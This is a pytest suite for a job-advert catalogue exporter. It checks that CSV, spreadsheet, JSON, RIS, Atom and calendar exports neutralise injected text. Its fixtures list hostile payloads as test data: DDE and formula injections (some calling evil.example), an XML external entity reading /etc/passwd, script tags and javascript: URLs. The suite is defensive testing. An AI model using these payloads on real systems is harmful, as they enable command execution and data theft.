"""What adverts may hold comes out inert: formulas, markup, control characters, lines that look like a format's own."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import subprocess
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import feedparser
import icalendar
import openpyxl
import pytest
import rispy
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree  # type: ignore[import-untyped]
from sample_catalogue import write_sample
from test_takeaway import Site

from catalogue.columns import COLUMNS, TABLES
from catalogue.export import FORMATS, export, open_catalogue, spreadsheet_safe
from catalogue.formats import Edition
from catalogue.formats.csv_text import is_live
from catalogue.formats.edition import LISTS, NAMES
from catalogue.formats.plain import one_line, outward
from catalogue.formats.xlsx import LONGEST, sound
from catalogue.site.safe_tables import safe

FORMULAS = (
    """
=1+1 | =cmd|' /C calc'!A0 | =HYPERLINK("http://evil.example","x") | =IMPORTXML("http://evil.example","//a")
=WEBSERVICE("http://evil.example") | =DDE("cmd","/C calc","x") | =SUM(A1:A9)*cmd|' /C calc'!A0 | +1+1
+cmd|' /C calc'!A0 | -1+1 | -cmd|' /C calc'!A0 | @SUM(1+1) | @cmd | ＝1+1 | ＋1+1 | －1+1 | ＠SUM(1)
=1+1";=1+1 | a;=1+1 | "=1+1 | a,=1+1 | '=1+1
""".strip()
    .replace("\n", " | ")
    .split(" | ")
)
FORMULAS += [
    f"{hidden}=1+1" for hidden in ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\u3000", "a\t", '="\n')
]
LINES = ["x\nER  - \nTY  - BOOK\nTI  - other", "ER  - ", "x\r\nER  - \r\n", "x\x85ER  - ", "x\u2028ER  - \u2029TY  - "]
LINES += ["x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:other", "END:VCALENDAR", "x\\nEND:VEVENT", "a;b,c\\d", "é" * 80]
LINES += ["</title><entry>", "]]>", "<![CDATA[", "&amp;&#0;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "x" * 500]
LINES += ["<r><t>x</t></r>", '<r></r></is></c><c r="A9"><f>1+1</f></c><c><is><r></r>', "_x0041_", "_x0000_", "1. "]
LINES += ["\x00", "a\x00b", "\x01\x02\x03\x0b\x0c\x1b[31m\x7f\x9f", "\ufffe\uffff", "\u202etxt.exe", "😀" * 40, "%00"]
LINES += [" ", "\\", "<script>alert(1)</script>"]
TEXTS = [name for name, is_list in zip(NAMES, LISTS, strict=True)
         if not is_list and next(c for c in COLUMNS["opportunities"] if c.name == name).type == "text"]  # fmt: skip
KEPT = (
    "id",
    "source",
    "first_seen",
    "last_seen",
    "closes_on",
    "closes_at",
    "status",
)  # the file's own words, or of a link


Hostile = tuple[Path, list[str]]


def hostile_catalogue(path: Path, texts: list[str]) -> Hostile:
    """(a catalogue with one such text in every text column and array of each opportunity, the texts by its id)."""
    write_sample(path, size=len(texts), words=4)
    columns = [name for name in TEXTS if name not in KEPT]
    lists = [name for name, is_list in zip(NAMES, LISTS, strict=True) if is_list]
    sql = "update opportunities set " + ", ".join(f"[{name}] = ?" for name in (*columns, *lists)) + " where rowid = ?"
    with closing(sqlite3.connect(path)) as db, db:
        db.execute("update opportunities set closes_on = '2031-03-20', closes_at = null")
        for number, text in enumerate(texts, 1):
            array = json.dumps([text, text])
            db.execute(sql, [*(text for _ in columns), *(array for _ in lists), number])
        order = [row[0] for row in db.execute("select rowid from opportunities order by id")]
    return path, [texts[number - 1] for number in order]


@pytest.fixture(scope="module", params=["formulas", "lines"])
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    texts = FORMULAS if request.param == "formulas" else LINES
    return hostile_catalogue(tmp_path_factory.mktemp(request.param) / "catalogue.db", texts)


def written(path: Path, format: str, **options: Any) -> bytes:
    out = path.with_suffix(f".{format}")
    export(path, format, out=out, site="https://exchange.example", **options)
    return out.read_bytes()


def test_there_are_thirty_formulas() -> None:
    assert len(set(FORMULAS)) >= 30
    assert len(TEXTS) > 25


def test_no_cell_of_a_csv_is_live(hostile: Hostile) -> None:
    path, texts = hostile
    text = written(path, "csv").decode()
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(table) == len(texts)
    for row, payload in zip(table, texts, strict=True):
        assert row["title"] == spreadsheet_safe(payload)
        assert row["professions"] == spreadsheet_safe(f"{payload}; {payload}")
        assert not [name for name, value in row.items() if is_live(value)]
    # A program that splits at ";" or tabs too finds no second cell in a text, since all text is in quotation marks:
    # what is not would be read as a number here, and fail.
    assert list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))


def test_no_cell_of_a_spreadsheet_is_live(hostile: Hostile) -> None:
    path, texts = hostile
    content = written(path, "xlsx")
    with ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            assert not etree.fromstring(parts.read(name)).findall(".//{*}f"), name
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Opportunities"]
    assert sheet.max_row == len(texts) + 1
    live = 0
    for row, payload in zip(sheet.iter_rows(min_row=2), texts, strict=True):
        assert not [cell.coordinate for cell in row if cell.data_type in ("f", "e")]
        assert not [cell.coordinate for cell in row if cell.hyperlink]
        title = row[NAMES.index("title")]
        if payload.isprintable() and not payload.startswith("<r>") and "_x" not in payload:
            assert title.value == (payload or None)
        if is_live(payload):
            live += 1
            assert title.quotePrefix, "a cell that somebody edits stays text"
    assert live == sum(map(is_live, texts))


@pytest.mark.parametrize("format", ["json", "jsonl"])
def test_json_keeps_every_text(hostile: Hostile, format: str) -> None:
    path, texts = hostile
    content = written(path, format).decode()
    objects = json.loads(content) if format == "json" else [json.loads(line) for line in content.split("\n")[:-1]]
    assert [row["title"] for row in objects] == texts
    assert [row["professions"] for row in objects] == [[text, text] for text in texts]


def test_references_stay_whole(hostile: Hostile) -> None:
    path, texts = hostile
    content = written(path, "ris").decode()
    entries = rispy.loads(content)
    assert [entry.get("title", "") for entry in entries] == [one_line(text) for text in texts]
    assert {entry["type_of_reference"] for entry in entries} == {"ELEC"}
    assert sum(line.startswith("ER  -") for line in content.splitlines()) == len(texts)


def test_feeds_stay_well_formed(hostile: Hostile) -> None:
    path, texts = hostile
    content = written(path, "atom")
    etree.fromstring(content, etree.XMLParser(resolve_entities=False))
    feed = feedparser.parse(content)
    assert len(feed.entries) == len(texts)
    assert b"<script" not in content
    assert {link.href for entry in feed.entries for link in entry.links} == {
        f"https://exchange.example/catalogue/opportunities/{entry.id.rpartition('/')[2].replace(':', '~3A')}"
        for entry in feed.entries
    }


def test_calendars_stay_whole(hostile: Hostile) -> None:
    path, texts = hostile
    content = written(path, "ics")
    found = icalendar.Calendar.from_ical(content).walk("VEVENT")
    assert [str(event["summary"]) for event in found] == [f"Closes: {one_line(text)}" for text in texts]
    assert content.count(b"\r\nEND:VEVENT\r\n") == len(texts)
    assert max(map(len, content.split(b"\r\n"))) <= 75
    assert not any(byte < 0x20 and byte not in (0x0D, 0x0A) for byte in content)


OTHERS = [name for name in TABLES if name not in ("opportunities", "meta")]
REPORTS = ["by_host", "joined_adverts", "unreadable", "seen_within_days"]


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A site on whose tables every text that may be anything is a formula."""
    path = tmp_path_factory.mktemp("tables") / "catalogue.db"
    write_sample(path)
    with closing(sqlite3.connect(path)) as db, db:
        for name, table in TABLES.items():
            free = [
                c.name for c in table.columns if c.type == "text" and not c.link and c.name not in (*table.key, *KEPT)
            ]
            if name != "meta" and free:
                db.execute(f"update {name} set " + ", ".join(f"[{each}] = '=1+1'" for each in free))
    return Site(path)


@pytest.mark.parametrize("name", [*OTHERS, *REPORTS, "source_health", "opportunities/harbour~3A0", "sources/moor"])
def test_no_cell_of_any_other_table_is_live(tables: Site, name: str) -> None:
    address = f"/catalogue/{name}.csv"
    answers = [tables.ask(f"{address}{query}") for query in ("?_size=max", "?_stream=on", "?_raw=on&_stream=on")]
    assert {answer.status_code for answer in answers} == {200}
    plain, streamed, raw = (list(csv.reader(io.StringIO(answer.text, newline=""))) for answer in answers)
    assert len(plain) > 1
    assert plain == streamed == [[spreadsheet_safe(cell) for cell in row] for row in raw]
    assert name in ("codebook", "search_log") or "'=1+1" in {cell for row in plain for cell in row}


def test_numbers_stay_numbers() -> None:
    assert [safe(cell) for cell in ("-5", "+1.5e-7", "-5+1", "5", "-")] == ["-5", "+1.5e-7", "'-5+1", "5", "'-"]


# --- any text

TEXT = st.text(st.characters(codec="utf-8"), max_size=60)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, ...]]:
    path = tmp_path_factory.mktemp("any") / "catalogue.db"
    write_sample(path, size=6)
    with closing(open_catalogue(path)) as db:
        yield tuple(db.execute(f"select {', '.join(f'[{name}]' for name in NAMES)} from opportunities").fetchone())


def made(format: str, template: tuple[Any, ...], text: str, **options: bool) -> bytes:
    given = {"title": text, "summary": text, "host": text, "place_text": text, "extract": text, "url": text}
    given |= {"professions": json.dumps([text]), "closes_on": "2031-03-20", "closes_at": None}
    row = tuple(given.get(name, value) for name, value in zip(NAMES, template, strict=True))
    edition = Edition("2031-03-03T05:00:00Z", "sample", {}, "https://exchange.example", **options)
    return b"".join(FORMATS[format].chunks([row], edition))


@settings(deadline=None)
@given(text=TEXT)
def test_any_text_survives_a_raw_table_and_json(template: tuple[Any, ...], text: str) -> None:
    [row] = csv.DictReader(io.StringIO(made("csv", template, text, raw=True).decode(), newline=""))
    assert (row["title"], json.loads(row["professions"])) == (text, [text])
    [row] = csv.DictReader(io.StringIO(made("csv", template, text).decode(), newline=""))
    assert row["title"] in (text, f"'{text}")
    [each] = json.loads(made("json", template, text))
    assert (each["title"], each["professions"]) == (text, [text])


@settings(deadline=None)
@given(text=TEXT)
def test_any_text_survives_references_feeds_and_calendars_as_one_line(template: tuple[Any, ...], text: str) -> None:
    line = one_line(text)
    [reference] = rispy.loads(made("ris", template, text).decode())
    assert reference.get("title", "") == line
    feed = etree.fromstring(made("atom", template, text))
    assert (feed.findtext("{*}entry/{*}title") or "") == line
    [event] = icalendar.Calendar.from_ical(made("ics", template, text)).walk("VEVENT")
    assert str(event["summary"]) == f"Closes: {line}"


@settings(deadline=None, max_examples=15)
@given(text=TEXT)
def test_any_text_is_text_in_a_spreadsheet(template: tuple[Any, ...], text: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(made("xlsx", template, text)))["Opportunities"]
    cell = sheet.cell(2, NAMES.index("title") + 1)
    assert cell.data_type in ("s", "inlineStr", "n" if cell.value is None else "s")


@given(st.text(max_size=80))
def test_an_address_is_one_or_nothing(text: str) -> None:
    assert outward(text) in ("", text)
    assert outward(f"https://a.example/{text}") in ("", f"https://a.example/{text}")


ADDRESSES = [
    ("https://a.example/b?c=d;e#f", True),
    ("HTTP://a.example", True),
    ("https://é.example/ü", True),
    ("javascript:alert(1)", False),
    ("https:///x", False),
    ("//a.example", False),
    ("https://a.example/\nX", False),
    ("https://a.example/ b", False),
    ('https://a.example/"><x', False),
    ("https://a.example/\x00", False),
    ("data:text/html,x", False),
    (None, False),
]


@pytest.mark.parametrize(("address", "may"), ADDRESSES)
def test_only_web_addresses_become_links(address: str | None, may: bool) -> None:
    assert bool(outward(address)) is may


def test_a_cell_holds_no_more_than_a_cell_can() -> None:
    assert sound("x" * 40_000) == "x" * LONGEST
    assert sound("😀" * 20_000) == "😀" * (LONGEST // 2)
    assert sound("short") == "short"


# --- a real office program


@pytest.mark.skipif(shutil.which("soffice") is None, reason="no LibreOffice at hand")
def test_libreoffice_opens_tables_and_calculates_nothing(tmp_path: Path) -> None:
    path, texts = hostile_catalogue(tmp_path / "catalogue.db", FORMULAS + LINES)
    (tmp_path / "a.csv").write_bytes(written(path, "csv"))
    (tmp_path / "b.xlsx").write_bytes(written(path, "xlsx"))
    command = ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"]
    command += ["--convert-to", "ods:calc8", "--outdir", str(tmp_path)]
    # Comma, semicolon and tab all separate, as its dialogue proposes; UTF-8.
    for source in (["--infilter=CSV:44/59/9,34,76", str(tmp_path / "a.csv")], [str(tmp_path / "b.xlsx")]):
        subprocess.run([*command, *source], check=True, capture_output=True, timeout=180)
    for name in ("a.ods", "b.ods"):
        with ZipFile(tmp_path / name) as parts:
            content = parts.read("content.xml")
        sheets = etree.fromstring(content).findall(".//{*}table")
        assert b"formula=" not in content, name
        heads = [cell for cell in sheets[0].find("{*}table-row") if "".join(cell.itertext())]
        assert ["".join(cell.itertext()) for cell in heads] == list(NAMES), name
        first = NAMES.index("id")
        ids = {"".join(row[first].itertext()) for row in sheets[0].findall("{*}table-row") if len(row)}
        assert len([id for id in ids if id.startswith(("harbour:", "moor:"))]) == len(texts), name
